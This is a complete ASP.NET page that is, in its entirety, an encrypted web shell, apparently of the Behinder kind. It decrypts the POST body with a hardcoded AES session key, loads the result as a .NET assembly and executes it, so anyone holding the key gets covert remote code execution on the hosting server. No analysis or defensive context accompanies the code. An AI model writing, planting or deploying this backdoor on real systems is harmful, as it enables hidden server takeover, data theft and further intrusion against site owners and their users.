<%@ Page Language="C#" %><%@ Import Namespace="System.Reflection" %><%@ Import Namespace="System.Text" %><%
Session.Add("t", "0f1e2d3c4b5a6978");
byte[] key = Encoding.Default.GetBytes(Session[0] + "");
byte[] body = Request.BinaryRead(Request.ContentLength);
Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(key, key).TransformFinalBlock(body, 0, body.Length)).CreateInstance("Q").Equals(this);
%>
